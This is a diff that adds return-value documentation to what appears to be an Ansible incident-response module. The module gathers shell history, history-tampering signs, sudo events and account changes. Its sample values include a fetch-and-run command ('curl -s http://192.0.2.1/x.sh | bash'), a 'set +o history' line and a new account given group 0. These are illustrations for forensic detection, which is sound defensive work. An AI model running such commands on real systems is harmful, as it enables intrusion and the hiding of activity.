@@ -49,7 +49,469 @@ EXAMPLES = r"""
     limit: 20000
 """
 
-RETURN = r""" """
+RETURN = r"""
+---
+ansible_facts:
+  description: Facts to add to the facts of the host.
+  returned: always
+  type: dict
+  contains:
+    incident_history:
+      returned: always
+      description: What was typed, and what sudo recorded.
+      type: dict
+      contains:
+        items:
+          description: A line somebody typed.
+          returned: success
+          type: list
+          elements: dict
+          contains:
+            user:
+              description: Account whose home holds the file; null for a home without an account.
+              returned: success
+              type: str
+              sample: mallory
+            uid:
+              description: Uid of the account.
+              returned: success
+              type: int
+              sample: 1001
+            program:
+              description: 'What wrote the file: C(bash), C(zsh), C(fish), C(python), C(mysql) …'
+              returned: success
+              type: str
+              sample: bash
+            file:
+              description: Path of the file.
+              returned: success
+              type: str
+              sample: /home/mallory/.bash_history
+            line:
+              description: Line of the file where the entry begins, from 1. When the file was cut, counted from
+                the cut.
+              returned: success
+              type: int
+              sample: 12
+            at:
+              description: When, where the file says so; never guessed.
+              returned: success
+              type: str
+              sample: '2026-11-23T15:01:07Z'
+            duration:
+              description: How long it ran, where the file says so. In seconds.
+              returned: success
+              type: float
+              sample: 0.0
+            command:
+              description: The command, with its newlines.
+              returned: success
+              type: str
+              sample: curl -s http://192.0.2.1/x.sh | bash
+            raw:
+              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
+              returned: when there is something to say
+              type: dict
+              sample: &id001
+                name: //4=
+            clipped:
+              description: Names of the fields that were cut at their limit.
+              returned: when there is something to say
+              type: list
+              elements: str
+              sample: &id002
+              - argv
+        files:
+          description: A history file, whether or not it could be read.
+          returned: success
+          type: list
+          elements: dict
+          contains:
+            user:
+              description: Account whose home holds it.
+              returned: success
+              type: str
+              sample: mallory
+            uid:
+              description: Uid of the account.
+              returned: success
+              type: int
+              sample: 1001
+            program:
+              description: What writes it.
+              returned: success
+              type: str
+              sample: bash
+            path:
+              description: Path.
+              returned: success
+              type: str
+              sample: /home/mallory/.bash_history
+            kind:
+              description: C(file), C(link), C(fifo), C(directory) …
+              returned: success
+              type: str
+              sample: file
+            link_target:
+              description: Where a link points to.
+              returned: success
+              type: str
+              sample: /dev/null
+            owner_uid:
+              description: Uid of its owner.
+              returned: success
+              type: int
+              sample: 1001
+            mode:
+              description: Permissions, octal.
+              returned: success
+              type: str
+              sample: '0600'
+            size:
+              description: Size. In bytes.
+              returned: success
+              type: int
+              sample: 512
+            read_from:
+              description: Where in the file reading began; not 0 when only its end was read. Null when it was not
+                read. In bytes.
+              returned: success
+              type: int
+              sample: 0
+            modified_at:
+              description: When its content last changed.
+              returned: success
+              type: str
+              sample: '2026-11-23T15:01:07Z'
+            changed_at:
+              description: When its inode last changed.
+              returned: success
+              type: str
+              sample: '2026-11-23T15:01:07Z'
+            is_immutable:
+              description: Whether the immutable or append-only attribute is set (chattr(1)). Null when it was not
+                read.
+              returned: success
+              type: bool
+              sample: false
+            entries:
+              description: Entries found.
+              returned: success
+              type: int
+              sample: 12
+            raw:
+              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
+              returned: when there is something to say
+              type: dict
+              sample: *id001
+            clipped:
+              description: Names of the fields that were cut at their limit.
+              returned: when there is something to say
+              type: list
+              elements: str
+              sample: *id002
+        tampering:
+          description: A sign that history is not, or not truly, recorded.
+          returned: success
+          type: list
+          elements: dict
+          contains:
+            user:
+              description: Account concerned; null for all of them.
+              returned: success
+              type: str
+              sample: mallory
+            uid:
+              description: Uid of the account.
+              returned: success
+              type: int
+              sample: 1001
+            sign:
+              description: 'C(linked_away): a link stands there. C(not_a_file): a fifo, a directory … C(empty):
+                of a shell, in a home older than a day. C(immutable): it cannot be changed, or only be added to.
+                C(switched_off): by a start-up file or an environment. C(time_backwards), as also several shells
+                at a time make. C(time_in_future). C(not_owner): it belongs to somebody else.'
+              returned: success
+              type: str
+              sample: switched_off
+            where:
+              description: File and line, or process.
+              returned: success
+              type: str
+              sample: /home/mallory/.bashrc:118
+            path:
+              description: The file.
+              returned: success
+              type: str
+              sample: /home/mallory/.bashrc
+            line:
+              description: The line, from 1.
+              returned: success
+              type: int
+              sample: 118
+            pid:
+              description: The process whose environment says so.
+              returned: success
+              type: int
+              sample: 4242
+            detail:
+              description: What stands there.
+              returned: success
+              type: str
+              sample: set +o history
+            at:
+              description: When the file last changed, or the process started.
+              returned: success
+              type: str
+              sample: '2026-11-23T15:01:07Z'
+            raw:
+              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
+              returned: when there is something to say
+              type: dict
+              sample: *id001
+            clipped:
+              description: Names of the fields that were cut at their limit.
+              returned: when there is something to say
+              type: list
+              elements: str
+              sample: *id002
+        sudo_events:
+          description: A use of sudo.
+          returned: success
+          type: list
+          elements: dict
+          contains:
+            at:
+              description: When, by the record.
+              returned: success
+              type: str
+              sample: '2026-11-23T15:01:07Z'
+            user:
+              description: Who called sudo.
+              returned: success
+              type: str
+              sample: alice
+            run_as:
+              description: As whom.
+              returned: success
+              type: str
+              sample: root
+            run_as_group:
+              description: With which group.
+              returned: success
+              type: str
+              sample: adm
+            terminal:
+              description: Terminal; null for none.
+              returned: success
+              type: str
+              sample: pts/0
+            cwd:
+              description: Directory.
+              returned: success
+              type: str
+              sample: /home/alice
+            command:
+              description: Command.
+              returned: success
+              type: str
+              sample: /usr/bin/id
+            is_ambiguous:
+              description: Whether C(cwd) and C(command) could be told apart in several ways, since one of them
+                holds what looks like fields of sudo.
+              returned: success
+              type: bool
+              sample: false
+            runs_shell:
+              description: 'Whether the command is a shell or C(su): what was done in it is not recorded here.'
+              returned: success
+              type: bool
+              sample: false
+            result:
+              description: C(executed) or C(denied).
+              returned: success
+              type: str
+              sample: executed
+            reason:
+              description: Why it was denied.
+              returned: success
+              type: str
+              sample: 3 incorrect password attempts
+            is_configuration_management:
+              description: Whether it has the form of Ansible's own become.
+              returned: success
+              type: bool
+              sample: false
+            source:
+              description: C(journal), or the path of the log.
+              returned: success
+              type: str
+              sample: journal
+            trust:
+              description: 'C(kernel): the journal''s C(_UID), which the kernel sets, is root''s, or that of the
+                account that the line names as its caller while the writer had capabilities that only a setuid program
+                gave it: it says who called. C(forgeable): a log that anybody can write to, or a line that the named
+                account may have written itself. C(forged): by C(_UID) neither root nor the account that the line
+                names wrote it.'
+              returned: success
+              type: str
+              sample: kernel
+            writer_uid:
+              description: Real uid that wrote the record, where the journal knows; of sudo that of its caller.
+              returned: success
+              type: int
+              sample: 1001
+            line:
+              description: Line of the log, from 1. When the log was cut, counted from the cut.
+              returned: success
+              type: int
+              sample: 7
+            year_inferred:
+              description: Whether the log gives no year, so that C(at) has the one that fits its last change.
+              returned: success
+              type: bool
+              sample: false
+            raw:
+              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
+              returned: when there is something to say
+              type: dict
+              sample: *id001
+            clipped:
+              description: Names of the fields that were cut at their limit.
+              returned: when there is something to say
+              type: list
+              elements: str
+              sample: *id002
+        account_events:
+          description: What the programs that change accounts, or become another one, recorded; of sudo what is
+            not about a command.
+          returned: success
+          type: list
+          elements: dict
+          contains:
+            at:
+              description: When, by the record.
+              returned: success
+              type: str
+              sample: '2026-11-23T15:01:07Z'
+            program:
+              description: C(su), C(sudo), C(useradd), C(usermod), C(passwd), C(groupadd) …
+              returned: success
+              type: str
+              sample: useradd
+            user:
+              description: Account concerned, where the line names it.
+              returned: success
+              type: str
+              sample: butter
+            message:
+              description: The line.
+              returned: success
+              type: str
+              sample: 'new user: name=butter, UID=1002, GID=0'
+            source:
+              description: C(journal), or the path of the log.
+              returned: success
+              type: str
+              sample: journal
+            trust:
+              description: As for sudo events; of what only root can run, a line that a plain account wrote is C(forged).
+              returned: success
+              type: str
+              sample: kernel
+            writer_uid:
+              description: Real uid that wrote the record, where the journal knows.
+              returned: success
+              type: int
+              sample: 0
+            line:
+              description: Line of the log, from 1. When the log was cut, counted from the cut.
+              returned: success
+              type: int
+              sample: 7
+            year_inferred:
+              description: As for sudo events.
+              returned: success
+              type: bool
+              sample: false
+            raw:
+              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
+              returned: when there is something to say
+              type: dict
+              sample: *id001
+            clipped:
+              description: Names of the fields that were cut at their limit.
+              returned: when there is something to say
+              type: list
+              elements: str
+              sample: *id002
+        errors:
+          description: What could not be read, and why.
+          returned: success
+          type: list
+          elements: dict
+          sample: []
+          contains:
+            what:
+              description: What could not be read.
+              returned: success
+              type: str
+              sample: process executable
+            reason:
+              description: Why.
+              returned: success
+              type: str
+              sample: Permission denied
+            count:
+              description: How often.
+              returned: success
+              type: int
+              sample: 12
+            subjects:
+              description: The first few things concerned.
+              returned: success
+              type: list
+              elements: str
+              sample:
+              - pid 4242
+        truncated:
+          description: Whether a limit was reached.
+          returned: success
+          type: bool
+          sample: false
+        limits:
+          description: The limits that were reached.
+          returned: success
+          type: list
+          elements: dict
+          sample: []
+          contains:
+            what:
+              description: The list that was cut.
+              returned: success
+              type: str
+              sample: items
+            limit:
+              description: The limit.
+              returned: success
+              type: int
+              sample: 5000
+            total:
+              description: How many there were.
+              returned: success
+              type: int
+              sample: 6123
+        collected_at:
+          description: When this section was read, by the clock of the target.
+          returned: success
+          type: str
+          sample: '2026-11-23T15:45:00Z'
+        seconds:
+          description: How long reading it took. In seconds.
+          returned: success
+          type: float
+          sample: 0.042
+"""
 
 from ansible_collections.incident.response.plugins.module_utils._collect.history import collect
 from ansible_collections.incident.response.plugins.module_utils._facts_module import run_section
